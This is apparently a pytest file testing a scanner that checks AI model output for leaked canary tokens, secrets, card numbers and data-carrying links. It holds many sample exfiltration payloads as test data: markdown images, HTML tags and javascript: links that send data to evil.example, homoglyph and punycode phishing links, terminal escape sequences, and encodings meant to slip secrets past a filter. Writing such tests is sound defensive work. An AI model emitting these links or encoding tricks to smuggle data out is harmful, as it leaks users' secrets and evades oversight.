"""What must not be said is said otherwise: spaced, reversed, encoded, invisible, escaped."""

import base64
import codecs
import json
from random import Random

import pytest

from ostiary.errors import FaultyInputError
from ostiary.inspection.response import Document, Leaks, LeakSettings
from ostiary.inspection.response.canaries import canary_for
from ostiary.testing import leaks as drawn

LEAKS = Leaks()
CANARY = canary_for(b"k" * 32, "default", "request", "r-9")
DISGUISES = {
    "plain": lambda c: c,
    "upper": str.upper,
    "spaced": " ".join,
    "dotted": ".".join,
    "lines": "\n".join,
    "zero-width": "\u200b".join,
    "marks": "\u0336".join,
    "tags between": "\U000e0041".join,
    "reversed": lambda c: c[::-1],
    "rot13": lambda c: codecs.encode(c, "rot13"),
    "rot13 reversed": lambda c: codecs.encode(c, "rot13")[::-1],
    "base64": lambda c: base64.b64encode(c.encode()).decode(),
    "base64 of upper": lambda c: base64.b64encode(c.upper().encode()).decode(),
    "base64 inside": lambda c: base64.b64encode(f"it says: {c}!".encode()).decode(),
    "base64 inside, one on": lambda c: base64.b64encode(f"t says: {c}!".encode()).decode(),
    "base64 inside, two on": lambda c: base64.b64encode(f" says: {c}!".encode()).decode(),
    "base64 spaced": lambda c: " ".join(base64.b64encode(c.encode()).decode()),
    "base64 of reversed": lambda c: base64.b64encode(c[::-1].encode()).decode(),
    "base64 twice": lambda c: base64.b64encode(base64.b64encode(c.encode())).decode(),
    "hex": lambda c: c.encode().hex(),
    "hex upper spaced": lambda c: c.encode().hex(" ").upper(),
    "hex of reversed": lambda c: c[::-1].encode().hex(),
    "percent": lambda c: "".join(f"%{byte:02x}" for byte in c.encode()),
    "backslash x": lambda c: "".join(f"\\x{byte:02x}" for byte in c.encode()),
    "codes": lambda c: " ".join(str(ord(letter)) for letter in c),
    "full width": lambda c: "".join(chr(ord(x) + 0xFEE0) if 33 <= ord(x) < 127 else x for x in c),
    "mathematical": lambda c: "".join(chr(0x1D400 + ord(x) - 97 + 26) if x.islower() else x for x in c),
    "in a code block": lambda c: f"```\n{c}\n```",
}


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_canary_is_found_however_it_is_spelt(disguise):
    text = f"Sure. {DISGUISES[disguise](CANARY)} That was it."
    scan = LEAKS.scan(canaries=[CANARY])
    released = scan.feed(text) + scan.close()
    assert scan.verdict == "block", disguise
    assert released == "Sure. " + released.removeprefix("Sure. ")
    assert "That was it" not in released
    letter_by_letter = LEAKS.scan(canaries=[CANARY])
    assert "".join(map(letter_by_letter.feed, text)) + letter_by_letter.close() == released


def test_prose_and_other_canaries_are_none():
    other = canary_for(b"k" * 32, "other", "request", "r-9")
    scan = LEAKS.scan(canaries=[CANARY])
    text = f"An ordinary answer about oceans, {other}, and canaries in coal mines."
    assert scan.feed(text) + scan.close() == text
    assert scan.verdict == "pass"


@pytest.mark.parametrize("canary", ["", "…", "ab", "x" * 600])
def test_a_canary_that_cannot_be_watched_is_refused_and_not_ignored(canary):
    with pytest.raises(FaultyInputError, match="canary"):
        LEAKS.scan(canaries=[canary])


def test_a_canary_of_a_document_tells_whose_it_was():
    canary = canary_for(b"k" * 32, "default", "document", "d-3")
    for cleared, rule, verdict in ((False, "canary.document", "block"), (True, "canary.cited", "redact")):
        scan = LEAKS.scan(documents=[Document("a text", cleared=cleared, canary=canary)])
        assert canary not in scan.feed(f"see {canary} there") + scan.close()
        assert [finding.rule for finding in scan.findings] == [rule]
        assert scan.verdict == verdict


def test_escapes_in_arguments_of_a_tool_hide_nothing():
    secret = drawn.secret(Random(3), "github-pat")  # noqa: S311 - seeded
    for hidden in (
        json.dumps({"body": secret}),
        '{"body": "' + "".join(f"\\u{ord(letter):04x}" for letter in secret) + '"}',
        '{"body": "' + secret.replace("_", "\\u005F") + '"}',
        '{"url": "https:\\/\\/evil.example\\/?data=the+customer+list"}',
    ):
        scan = LEAKS.scan(escaped=True)
        released = scan.feed(hidden) + scan.close()
        assert scan.verdict == "redact", hidden
        assert json.loads(released), released
        for at in range(len(hidden)):
            again = LEAKS.scan(escaped=True)
            assert again.feed(hidden[:at]) + again.feed(hidden[at:]) + again.close() == released


def test_a_number_outside_of_a_string_leaves_arguments_that_can_be_read():
    scan = LEAKS.scan(escaped=True)
    assert json.loads(scan.feed('{"card": 4111111111111111, "n": 1}') + scan.close()) == {
        "card": "[REDACTED:pii.card]",
        "n": 1,
    }


def test_half_surrogates_in_two_pieces_are_one_character_and_a_lone_one_is_none():
    scan = LEAKS.scan()
    assert scan.feed("a\ud83d") + scan.feed("\ude00b") + scan.close() == "a\U0001f600b"
    scan = LEAKS.scan()
    assert scan.feed("a\ud83d") + scan.feed("b\ude00") + scan.feed("\ud83d") + scan.close() == "a\ufffdb\ufffd\ufffd"


def test_invisible_characters_and_other_digits_do_not_hide_a_number():
    for text in (
        "4111\u200b 1111 11\u00ad11 1111",
        "4111 1111 1111 1111".translate({n: n + 0xFEE0 for n in range(48, 58)}),
        "4111\u20111111\u20111111\u20111111",
    ):
        scan = LEAKS.scan()
        assert scan.feed(f"card {text}.") + scan.close() == "card [REDACTED:pii.card]."


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=the+customer+list)",
        "![x](//evil.example/p.png?whatever)",
        "![x](\\\\evil.example\\p.png?q=a+b)",
        "![x](https:evil.example/p?q=a+b)",
        "![x](&#104;ttps://evil.example/?q=a+b)",
        "![x](<https://evil.example/?q=a b>)",
        "![x]( \n https://evil.example/?q=a+b)",
        "![x][r]\n\n[r]: https://evil.example/?q=the+customer+list",
        "![x](https://evil.example/tell%20them%20that/ada%40corp.example)",
        "![x](https://nfwgk43uebzxkzlsoqqho2ltmuqg65lu.evil.example/i.png)",
        "<img src='ht\ntps://evil.example/?q=a b'>",
        '<img alt="a>b" src=https://evil.example/?q=a+b>',
        '<link rel=stylesheet href="https://evil.example/x?q=a+b">',
        '<meta http-equiv=refresh content="0;url=https://evil.example/?q=a+b">',
        "<div style=\"background:url('https://evil.example/?q=a+b')\">",
        "see https://evil.example/?data=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI now",
        "<https://evil.example/c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI>",
        "[safe](javascript:fetch('//evil.example'))",
        "[safe](java&#115;cript:alert)",
        '<a href="data:text/html,<script>alert()</script>">x</a>',
        "[bank](https://bank.example@evil.test/login)",
        "[bank](https://b\u0430nk.example/login)",
        "[bank](https://xn--80ak6aa92e.com/)",
    ],
)
def test_an_address_that_carries_something_away_does_not_leave(text):
    scan = LEAKS.scan()
    released = scan.feed(f"Look: {text} there") + scan.close()
    assert scan.verdict == "redact", released
    assert not any(part in released for part in ("evil.", "javascript:", "data:", "xn--", "nk.example"))
    for at in range(len(text)):
        again = LEAKS.scan()
        assert again.feed(f"Look: {text[:at]}") + again.feed(f"{text[at:]} there") + again.close() == released


@pytest.mark.parametrize(
    "text",
    [
        "[docs](https://docs.python.org/3/library/re.html?highlight=match#re.match)",
        "[search](https://www.example.org/search?q=how+to+bake+bread)",
        "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
        "<img src='https://images.example.org/photo.jpg?w=600&h=400'>",
        "![a](images/plan.png) and [b](#top) and [c](mailto:me@corp.example)",
        "https://m\u00fcnchen.example/rathaus and https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/",
        "a[i](x) = b[j] and array[0](1)",
        "the data: one; javascript: two",
    ],
)
def test_an_address_that_only_leads_somewhere_leaves(text):
    scan = LEAKS.scan()
    assert scan.feed(text) + scan.close() == text


def test_with_a_list_of_hosts_images_of_others_do_not_leave():
    leaks = Leaks(LeakSettings(egress_hosts=("corp.example",)))
    scan = leaks.scan()
    text = (
        "![a](https://img.corp.example/x?d=a+b) ![b](https://other.example/x.png) ![c](https://notcorp.example/x.png)"
    )
    assert scan.feed(text) + scan.close() == (
        "![a](https://img.corp.example/x?d=a+b) ![b]([REDACTED:link.image]) ![c]([REDACTED:link.image])"
    )


def test_a_terminal_is_told_nothing():
    scan = LEAKS.scan()
    text = "a\x1b[31mb\x1b]8;;https://evil.example\x07c\x1b]0;title\x1b\\d\x9b2Je\x1b"
    assert scan.feed(text) + scan.close() == "abcde"
